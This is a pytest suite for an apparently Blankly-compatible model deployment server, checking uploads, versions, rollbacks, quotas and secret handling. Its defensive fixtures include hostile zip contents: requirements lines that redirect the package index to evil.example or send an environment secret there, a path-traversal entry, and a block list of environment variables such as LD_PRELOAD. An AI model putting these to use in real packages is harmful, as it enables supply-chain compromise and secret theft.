"""Blankly's documented endpoints, and the rules of uploads."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from deploy_magics.errors import ServiceError
from deploy_magics.server.services import Services
from deploy_magics.server.services.principal import Principal

BARS = b"time,open,high,low,close,volume\n1500000000,1,2,0.5,1.5,10\n"
NEW = {"name": "RSI Model", "createNew": "true", "pythonVersion": "3.10", "plan": "nano"}


def zip_part(content: bytes) -> Any:
    return ("model", ("model.zip", content, "application/zip"))


def stored(services: Services) -> set[str]:
    return {name for name, _ in services.blobs.names()}


def staged(services: Services) -> list[Path]:
    return list(services.blobs.staging.glob("in-*"))


def test_the_documented_road(me: Any, small_zip: bytes, services: Services) -> None:
    project = me.post(
        "/project/create", data={"name": "RSI Models", "description": "buy < 30, sell > 70"}
    )
    assert project["status"] == "success"
    listed = me.get("/project/list")
    assert [row["name"] for row in listed] == ["Personal", "RSI Models"]
    assert listed[0]["projectId"] == me.who.account_id
    first = me.post(
        "/model/deploy",
        data={
            **NEW,
            "projectId": project["projectId"],
            "generalDescription": "buys below 30",
            "versionDescription": "first",
        },
        files=[zip_part(small_zip)],
    )
    assert first["status"] == "success"
    assert (first["version"], first["projectId"]) == (1, project["projectId"])
    again = me.post(
        "/model/deploy",
        data={
            "projectId": project["projectId"],
            "modelId": first["modelId"],
            "versionDescription": "Improve buy logic",
        },
        files=[zip_part(small_zip)],
    )
    assert (again["modelId"], again["version"]) == (first["modelId"], 2)
    tested = me.post(
        "/model/backtest",
        data={
            "projectId": project["projectId"],
            "modelId": first["modelId"],
            "backtestArgs": json.dumps({"to": "1y"}),
            "backtestDescription": "Changed RSI to buy at 20",
        },
        files=[zip_part(small_zip)],
    )
    run = me.get(f"/run/{tested['backtestId']}")
    assert (run["kind"], run["state"], run["args"]) == ("backtest", "queued", {"to": "1y"})
    versions = me.get(f"/model/{first['modelId']}/versions")
    assert [row["version"] for row in versions] == [3, 2, 1]
    assert versions[1]["description"] == "Improve buy logic"
    assert versions[2]["pythonVersion"] == "3.10"
    assert versions[2]["sha256"] == hashlib.sha256(small_zip).hexdigest()
    package = me.call("GET", f"/version/{first['versionId']}/package")
    assert package.content == small_zip
    assert len(stored(services)) == 1


def test_the_overview_is_told_once(me: Any, deployed: dict[str, Any]) -> None:
    answer = me.call("GET", "/overview")
    (project,) = answer.json()["projects"]
    (model,) = project["models"]
    assert (model["name"], model["versionCount"]) == ("RSI", 1)
    assert model["versions"][0]["runId"] == model["runs"][0]["id"] == deployed["runId"]
    same = me.call("GET", "/overview", headers={"If-None-Match": answer.headers["etag"]})
    assert (same.status_code, same.content) == (304, b"")
    me.post(f"/run/{deployed['runId']}/stop")
    fresh = me.call("GET", "/overview", headers={"If-None-Match": answer.headers["etag"]})
    assert fresh.json()["projects"][0]["models"][0]["versions"][0]["state"] == "cancelled"


def test_the_same_request_twice_is_done_once(me: Any, small_zip: bytes) -> None:
    def send(key: str, **more: str) -> Any:
        return me.call(
            "POST",
            "/model/deploy",
            data={"name": "once", **more},
            files=[zip_part(small_zip)],
            headers={"Idempotency-Key": key},
        )

    first = send("a" * 20)
    assert send("a" * 20).json() == first.json()
    assert send("a" * 20, plan="micro").status_code == 422
    assert send("b" * 20).json()["version"] == 2
    assert send("not\x7fplain").status_code == 400
    created = [
        me.post("/project/create", data={"name": "P"}, headers={"Idempotency-Key": "p1"})
        for _ in range(2)
    ]
    assert created[0] == created[1]


def test_a_known_zip_need_not_be_sent_again(me: Any, other: Any, small_zip: bytes) -> None:
    digest = hashlib.sha256(small_zip).hexdigest()
    form = {"name": "known", "sha256": digest}
    assert me.call("GET", f"/package/{digest}").status_code == 404
    assert me.call("POST", "/model/deploy", data=form).status_code == 404
    me.post("/model/deploy", data={"name": "known"}, files=[zip_part(small_zip)])
    assert me.get(f"/package/{digest}")["size"] == len(small_zip)
    assert me.post("/model/deploy", data=form)["version"] == 2
    # who only knows the digest gets nothing of it
    assert other.call("GET", f"/package/{digest}").status_code == 404
    assert other.call("POST", "/model/deploy", data=form).status_code == 404


WRONG: list[tuple[dict[str, str], int, str]] = [
    ({"projectId": "nope"}, 404, "no such project"),
    ({"modelId": "nope"}, 404, "no such model"),
    ({"plan": "galactic"}, 400, "no plan"),
    ({"pythonVersion": "2.7"}, 400, "Python"),
    ({"name": "a/b"}, 400, "slashes"),
    ({"name": "x" * 200}, 400, "128"),
    ({"name": "evil\u202etxt"}, 400, "control"),
    ({"feed": "{"}, 400, "not JSON"),
    ({"feed": '{"a": NaN}'}, 400, "not JSON"),
    ({"feed": "[1]"}, 400, "object"),
    ({"type": "robot"}, 400, "type"),
    ({"versionDescription": "x" * 3000}, 400, "2000"),
    ({"sha256": "0" * 64}, 422, "SHA-256"),
    ({"type": "screener"}, 400, "schedule"),
    ({"type": "screener", "schedule": "every day"}, 400, "schedule"),
]


def test_what_is_wrong_is_said_and_nothing_is_kept(
    me: Any, services: Services, small_zip: bytes
) -> None:
    for change, status, words in WRONG:
        answer = me.call(
            "POST", "/model/deploy", data={"name": "M", **change}, files=[zip_part(small_zip)]
        )
        assert (answer.status_code, change) == (status, change), answer.text
        assert words in answer.json()["error"]
        assert "\n" not in answer.json()["error"]
    assert stored(services) == set()
    assert staged(services) == []
    assert me.post("/model/list", data={"projectId": ""}) == []


def broken_zips(good: bytes) -> dict[str, bytes]:
    def made(*files: tuple[str, bytes]) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name, content in files:
                archive.writestr(name, content)
        return out.getvalue()

    manifest = b'{"main_script": "./bot.py"}'
    return {
        "empty": b"",
        "no zip": b"PK nonsense",
        "cut": good[:-10],
        "prefix": b"#!/bin/sh\n" + good,
        "no manifest": made(("model/bot.py", b"")),
        "no script": made(("model/blankly.json", manifest)),
        "no python": made(("model/blankly.json", manifest), ("model/bot.py", b"def (")),
        "escape": made(("model/blankly.json", manifest), ("model/../../x", b"")),
        "option": made(
            ("model/blankly.json", manifest),
            ("model/bot.py", b""),
            ("model/requirements.txt", b"--index-url http://evil.example/\n"),
        ),
        "address": made(
            ("model/blankly.json", manifest),
            ("model/bot.py", b""),
            ("model/requirements.txt", b"x @ http://evil.example/${SECRET}\n"),
        ),
        "bomb": made(("model/blankly.json", manifest), ("model/bot.py", b"\x00" * 10)),
        "json": made(("model/blankly.json", b'{"main_script": 1'), ("model/bot.py", b"")),
    }


def test_broken_and_hostile_zips_are_refused_whole(
    me: Any, services: Services, small_zip: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET", "sesame")
    for name, content in broken_zips(small_zip).items():
        answer = me.call("POST", "/model/deploy", data={"name": "M"}, files=[zip_part(content)])
        assert answer.status_code == 422, (name, answer.text)
        assert "sesame" not in answer.text
    assert stored(services) == set()
    assert staged(services) == []
    assert me.post("/model/list", data={"projectId": me.who.account_id}) == []


def test_uploads_end_at_their_limits(me: Any, services: Services, small_zip: bytes) -> None:
    large = b"x" * (services.settings.max_upload + (2 << 20))
    answer = me.call("POST", "/model/deploy", data={"name": "M"}, files=[zip_part(large)])
    assert answer.status_code == 413
    bad = [
        (b"--x\r\n\r\n", "multipart/form-data; boundary=x"),
        (b"hello", "multipart/form-data"),
        (
            b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\ncut',
            "multipart/form-data; boundary=x",
        ),
        (b"pickle", "application/python-pickle"),
        (b'{"a": 1, "a": 2}', "application/json"),
        (b"[" * 100_000, "application/json"),
        (b'{"a": 1e', "application/json"),
    ]
    for body, kind in bad:
        answer = me.call("POST", "/model/deploy", content=body, headers={"content-type": kind})
        assert answer.status_code in (400, 415), (body[:20], answer.status_code)
    parts = [(f"p{n}", (None, b"x")) for n in range(200)]
    assert me.call("POST", "/model/deploy", files=parts).status_code == 413
    assert staged(services) == []


def test_prices_come_along(me: Any, services: Services, small_zip: bytes) -> None:
    files = [zip_part(small_zip), ("prices", ("EUR-USD.csv", BARS, "text/csv"))]
    done = me.post("/model/deploy", data={"name": "P"}, files=files)
    run = me.get(f"/run/{done['runId']}")
    assert run["feed"] == {"kind": "replay", "pace": 1.0}
    (row,) = services.runs.inputs(done["runId"])
    assert (row.symbol, services.blobs.read(row.sha256)) == ("EUR-USD", BARS)
    bars = me.get(f"/run/{done['runId']}/prices", params={"symbol": "EUR-USD"})
    assert bars["close"] == [1.5]
    for name, content in [("../x.csv", BARS), ("A.csv", b"a,b\n1,2\n")]:
        files = [zip_part(small_zip), ("prices", (name, content, "text/csv"))]
        answer = me.call("POST", "/model/deploy", data={"name": "P"}, files=files)
        assert answer.status_code == (200 if name == "../x.csv" else 400)
    again = me.post(f"/version/{done['versionId']}/run")
    assert [r.symbol for r in services.runs.inputs(again["id"])] == ["EUR-USD"]


def test_a_rollback_is_a_new_version_that_equals_the_old(
    me: Any, services: Services, make_zip: Callable[..., bytes], deployed: dict[str, Any]
) -> None:
    other = make_zip("import blankly\n\nprint('two')\n")
    second = me.post(
        "/model/deploy", data={"modelId": deployed["modelId"]}, files=[zip_part(other)]
    )
    back = me.post(f"/version/{deployed['versionId']}/rollback", json={})
    assert back["version"] == 3
    one, three = (me.get(f"/version/{v}") for v in (deployed["versionId"], back["versionId"]))
    assert one["sha256"] == three["sha256"]
    assert three["rollbackOf"] == deployed["versionId"]
    assert three["description"] == "Rollback to version 1"
    assert me.get(f"/run/{second['runId']}")["state"] == "cancelled"
    run = me.get(f"/run/{back['runId']}")
    assert run["feed"] == {"kind": "replay", "pace": 0}
    assert [row.symbol for row in services.runs.inputs(run["id"])] == ["EUR-USD"]


def test_a_screener_waits_for_its_time(me: Any, services: Services, make_zip: Any) -> None:
    content = make_zip(type="screener", schedule="30 14 * * 1-5")
    done = me.post("/model/deploy", data={"name": "S"}, files=[zip_part(content)])
    assert done["runId"] is None
    details = me.post("/model/details", data={"modelId": done["modelId"]})
    assert (details["type"], details["schedule"]) == ("screener", "30 14 * * 1-5")
    due = details["nextRunAt"]
    assert services.schedules.tick(due - 1) == []
    (run,) = services.schedules.tick(due + 1)
    assert (run.kind, run.version_id) == ("screen", done["versionId"])
    assert services.schedules.tick(due + 2) == []


def test_a_live_run_needs_the_words(me: Any, small_zip: bytes) -> None:
    done = me.post("/model/deploy", data={"name": "L", "live": "true"}, files=[zip_part(small_zip)])
    run = me.get(f"/run/{done['runId']}")
    assert (run["live"], run["feed"]) == (True, {"kind": "exchange"})
    paper = me.post("/model/deploy", data={"name": "M"}, files=[zip_part(small_zip)])
    run = me.get(f"/run/{paper['runId']}")
    assert (run["live"], run["feed"]) == (False, {"kind": "ccxt"})


def test_variables_keep_their_secrets(me: Any, services: Services, deployed: Any) -> None:
    place = {"modelId": deployed["modelId"]}
    me.call("PUT", "/variables", json={**place, "name": "KEY", "value": "sesame", "secret": True})
    me.call("PUT", "/variables", data={**place, "name": "PLAIN", "value": "1"})
    shown = me.get("/variables", params=place)
    assert [(v["name"], v["value"], v["secret"]) for v in shown] == [
        ("KEY", None, True),
        ("PLAIN", "1", False),
    ]
    assert services.variables.effective(deployed["versionId"]) == {"KEY": "sesame", "PLAIN": "1"}
    # overwritten without saying so, it stays secret
    me.call("PUT", "/variables", json={**place, "name": "KEY", "value": "other"})
    assert me.get("/variables", params=place)[0]["value"] is None
    for name in ("LD_PRELOAD", "PYTHONPATH", "a-b", "_x", "PATH"):
        answer = me.call("PUT", "/variables", json={**place, "name": name, "value": "x"})
        assert answer.status_code == 400, name
    assert me.call("DELETE", "/variables", params={**place, "name": "KEY"}).status_code == 200
    assert len(me.get("/variables", params=place)) == 1
    events = [event.event for event in services.audit.list(me.who)]
    assert not any("sesame" in event for event in events)


def test_deleting_stops_and_hides(me: Any, services: Services, deployed: dict[str, Any]) -> None:
    held = services.queue.claim("w1", 60)
    assert held is not None
    assert me.call("DELETE", f"/model/{deployed['modelId']}").status_code == 200
    assert me.call("GET", f"/run/{deployed['runId']}").status_code == 404
    assert me.get("/runs") == []
    assert services.queue.heartbeat(held.id, "w1", held.attempts, 60) == "stopped"
    personal = me.call("DELETE", f"/project/{me.who.account_id}")
    assert personal.status_code == 409


def test_quotas_hold(services: Services, me: Any, ann: Principal, small_zip: bytes) -> None:
    services.uploads._quota = len(small_zip) - 1
    answer = me.call("POST", "/model/deploy", data={"name": "Q"}, files=[zip_part(small_zip)])
    assert answer.status_code == 413
    assert stored(services) == set()
    services.uploads._quota = 1 << 30
    services.uploads._free_disk = 1 << 62
    answer = me.call("POST", "/model/deploy", data={"name": "Q"}, files=[zip_part(small_zip)])
    assert answer.status_code == 507
    services.uploads._free_disk = 0
    services.runs._quota = 1
    me.post("/model/deploy", data={"name": "Q"}, files=[zip_part(small_zip)])
    answer = me.call("POST", "/model/backtest", data={"name": "Q"}, files=[zip_part(small_zip)])
    assert (answer.status_code, "runs waiting" in answer.text) == (409, True)


def test_parts_of_a_zip_are_given_in_linear_time(me: Any, deployed: dict[str, Any]) -> None:
    place = f"/version/{deployed['versionId']}/package"
    whole = me.call("GET", place).content
    some = me.call("GET", place, headers={"Range": "bytes=0-9"})
    assert (some.status_code, some.content) == (206, whole[:10])
    many = "bytes=" + ",".join(f"{n}-{n}" for n in range(5000))
    answer = me.call("GET", place, headers={"Range": many})
    assert answer.status_code in (200, 206, 400, 416)
    assert len(answer.content) < 10 * len(whole) + 5000


def test_a_busy_database_says_when_to_come_back(
    me: Any, services: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    def busy(*_: object) -> None:
        raise ServiceError("The database is busy.", "Try again in a moment.", status=503)

    monkeypatch.setattr(services.projects, "list", busy)
    answer = me.call("GET", "/project/list")
    assert answer.status_code == 503
    assert 0 < int(answer.headers["retry-after"]) <= 60
    assert 0 < int(answer.headers["x-ratelimit-reset"]) <= 60
